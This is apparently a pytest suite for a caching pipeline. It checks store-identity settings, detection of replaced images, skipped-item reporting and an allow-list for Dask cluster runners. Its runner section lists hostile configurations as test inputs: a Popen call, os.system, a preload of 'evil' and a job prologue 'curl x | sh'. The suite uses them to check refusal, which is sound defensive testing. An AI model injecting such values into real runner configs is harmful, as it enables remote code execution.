"""Fault-injection suite of issue 12, part 2: what goes into a store and who runs it.

Every setting that changes stored values is in the store's identity (a resume with another
value is refused naming the setting); an image replaced after ingest is refused before it
is encoded; a request for a subset of the stored layers is served by the complete store;
skipped items are reported; the ``runner`` parameter and ``MMCACHE_DASK_*`` choose a
cluster class only from an allow-list. Store damage: ``tests/test_faults_store.py``.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import numpy as np
import pytest

from mmcache.errors import ConfigError, CorruptImageError, StoreMismatchError
from pipeline.cache import CacheConfig, _load_inputs, encode_shards, plan_cache, store_path
from pipeline.encoders import preset
from stores.hidden_states import HiddenStateStore
from stores.tables import ITEMS_FILE, read_items


def cfg(tables: Path, stores: Path, **encoder) -> CacheConfig:
    return CacheConfig(tables_dir=tables, store_dir=stores,
                       encoder=preset("minilm").model_copy(update=encoder),
                       items_per_shard=8, items_per_chunk=4)


# ------------------------------------------------------------------ settings in the identity
@pytest.mark.parametrize("setting,value", [("batch_size", 4), ("token_budget", 64),
                                           ("padding_side", "left"),
                                           ("compute_dtype", "bfloat16")])
def test_resume_with_another_encoding_setting_is_refused_naming_it(small_tables, tmp_path,
                                                                   setting, value):
    base = cfg(small_tables, tmp_path)
    plan = plan_cache(base)                     # creates the store; no model is loaded
    assert plan["pending"]
    stored = HiddenStateStore.open(plan["store"], require_complete=False).spec.encode_settings
    other = cfg(small_tables, tmp_path, **{setting: value})
    assert store_path(other) == store_path(base)  # the same store would be resumed
    with pytest.raises(StoreMismatchError) as exc:
        plan_cache(other)
    assert exc.value.field == setting and setting in str(exc.value)
    with pytest.raises(StoreMismatchError, match=setting):
        encode_shards(other, plan["pending"][:1])   # a writer joining with it: refused too
    assert HiddenStateStore.open(plan["store"], require_complete=False).pending_shards() == \
        plan["pending"]                             # nothing was written
    assert stored[setting] != value


def test_another_setting_writes_a_new_store_version(small_tables, tmp_path):
    from pipeline.incremental import plan_incremental
    first = plan_incremental(cfg(small_tables, tmp_path))
    assert first["action"] == "create"
    second = plan_incremental(cfg(small_tables, tmp_path, batch_size=4))
    assert (second["action"], second["reason"], second["version"]) == ("version", "batch_size", 2)


def test_a_subset_of_the_stored_layers_is_served_by_the_complete_store(small_tables, tmp_path):
    from pipeline.cache import request_spec, items_for
    from pipeline.incremental import plan_incremental
    full = cfg(small_tables, tmp_path)
    plan = plan_incremental(full)
    with HiddenStateStore.open(plan["store"], mode="w") as st:   # fill it (values unused)
        for s in st.pending_shards():
            a, b = st.rows_to_encode(s)
            st.write_shard(s, np.zeros((b - a, *st.shape[1:]), np.float16))
    sub = cfg(small_tables, tmp_path, layer_policy="explicit", blocks=(1, 3))  # states 0, 2, 4
    want = request_spec(sub, items_for(sub)[1]).layer_indices
    assert set(want) < set(HiddenStateStore.open(plan["store"]).layer_indices)
    again = plan_incremental(sub)
    assert (again["action"], again["version"], again["complete"]) == ("resume", 1, True)
    assert again["store"] == plan["store"] and again["pending"] == []


# ------------------------------------------------------------------ inputs checked where used
def _image_cfg(tables: Path, tmp: Path, on_bad_input: str = "error") -> CacheConfig:
    return CacheConfig(tables_dir=tables, store_dir=tmp, encoder=preset("efficientnet-lite0"),
                       on_bad_input=on_bad_input)


def test_poster_replaced_after_ingest_is_refused_naming_item_and_file(small_tables, tmp_path):
    tables = tmp_path / "tables"
    shutil.copytree(small_tables, tables)
    items = read_items(tables).sort_values("item_id").reset_index(drop=True)
    # the items table points at the ingested posters: copy them so the test may swap one
    posters = tmp_path / "posters"
    posters.mkdir()
    for p in items["image_path"]:
        shutil.copy(p, posters / Path(p).name)
    items["image_path"] = [str(posters / Path(p).name) for p in items["image_path"]]
    import pyarrow as pa
    import pyarrow.parquet as pq
    tbl = pq.read_table(tables / ITEMS_FILE)
    pq.write_table(tbl.set_column(tbl.schema.get_field_index("image_path"), "image_path",
                                  pa.array(items.set_index("item_id").loc[
                                      tbl.column("item_id").to_pylist(), "image_path"].tolist())),
                   tables / ITEMS_FILE)
    items = read_items(tables).sort_values("item_id").reset_index(drop=True)
    by_id = items.set_index("item_id", drop=False)
    ids = items["item_id"].to_numpy()[:3]
    c = _image_cfg(tables, tmp_path / "stores")
    out, skipped = _load_inputs(c, by_id, ids, tables / ITEMS_FILE)   # unchanged: accepted
    assert len(out) == 3 and not skipped
    victim, donor = by_id.loc[ids[1], "image_path"], by_id.loc[ids[2], "image_path"]
    shutil.copy(donor, victim)                  # another valid poster, same file name
    with pytest.raises(CorruptImageError) as exc:
        _load_inputs(c, by_id, ids, tables / ITEMS_FILE)
    msg = str(exc.value)
    assert f"item {ids[1]}" in msg and victim in msg and "changed after ingest" in msg
    out, skipped = _load_inputs(_image_cfg(tables, tmp_path, "skip"), by_id, ids,
                                tables / ITEMS_FILE)
    assert out[1] is None and [s["item_id"] for s in skipped] == [int(ids[1])]


def test_skipped_items_are_reported_by_describe(tmp_path):
    from tests.test_faults_store import IDS, make_store
    path = tmp_path / "s.zarr"
    make_store(path)
    rec = Path(str(path) + ".stage1")
    rec.mkdir()
    (rec / "shard-00001.json").write_text(json.dumps(
        {"shard": 1, "skipped": [{"item_id": int(IDS[9]), "reason": "CorruptImageError"}]}))
    d = HiddenStateStore.open(path).describe()
    assert d["skipped_item_ids"] == [int(IDS[9])]
    assert any("skipped" in w and str(IDS[9]) in w for w in d["warnings"])
    import stores
    assert json.loads(stores.open(path).attrs["skipped_item_ids"]) == [int(IDS[9])]


# ------------------------------------------------------------------ runner allow-list
HOSTILE = [
    {"kind": "cluster", "cluster_class": "subprocess.Popen",
     "cluster_kwargs": {"args": ["touch", "/tmp/mmcache-pwned"]}},
    {"kind": "cluster", "cluster_class": "os.system"},
    {"kind": "local", "cluster_kwargs": {"worker_class": "subprocess.Popen"}},
    {"kind": "local", "cluster_kwargs": {"scheduler_kwargs": {"preload": ["evil"]}}},
    {"kind": "cluster", "cluster_class": "dask_jobqueue.SLURMCluster",
     "cluster_kwargs": {"job_script_prologue": ["curl x | sh"]}},
]


@pytest.mark.parametrize("runner", HOSTILE)
def test_hostile_runner_parameter_is_refused(runner, tmp_path):
    from pipeline.runners import make_task_runner, resolve_runner_config
    with pytest.raises(ConfigError, match="not an allowed|not allowed"):
        make_task_runner(resolve_runner_config(runner, {}))
    assert not Path("/tmp/mmcache-pwned").exists()


def test_cluster_class_from_the_environment_is_checked_and_operator_can_extend(monkeypatch):
    from pipeline.runners import (RunnerConfig, make_task_runner, resolve_runner_config,
                                  runner_config_from_env)
    with pytest.raises(ConfigError, match="'subprocess.Popen' is not an allowed"):
        runner_config_from_env({"MMCACHE_DASK_CLUSTER_CLASS": "subprocess.Popen"})
    cfg_ = runner_config_from_env({"MMCACHE_DASK_CLUSTER_CLASS": "mysite.GPUCluster",
                                   "MMCACHE_DASK_ALLOWED_CLUSTER_CLASSES": "mysite.GPUCluster"})
    assert cfg_.cluster_class == "mysite.GPUCluster"
    # a run parameter cannot extend the list (no such field), the operator's env can
    with pytest.raises(ConfigError):
        resolve_runner_config({"kind": "cluster", "cluster_class": "mysite.GPUCluster",
                               "allowed_cluster_classes": ["mysite.GPUCluster"]}, {})
    with pytest.raises(ConfigError, match="not an allowed"):
        make_task_runner(RunnerConfig(kind="cluster", cluster_class="mysite.GPUCluster"))
    monkeypatch.setenv("MMCACHE_DASK_ALLOWED_CLUSTER_CLASSES", "mysite.GPUCluster")
    with pytest.raises(ConfigError, match="cannot import 'mysite'"):  # allowed, then imported
        make_task_runner(RunnerConfig(kind="cluster", cluster_class="mysite.GPUCluster"))
    # the allowed classes pass the check (LocalCluster is built, not started)
    assert make_task_runner(resolve_runner_config(
        {"kind": "cluster", "cluster_class": "distributed.LocalCluster",
         "cluster_kwargs": {"n_workers": 1}}, {})) is not None
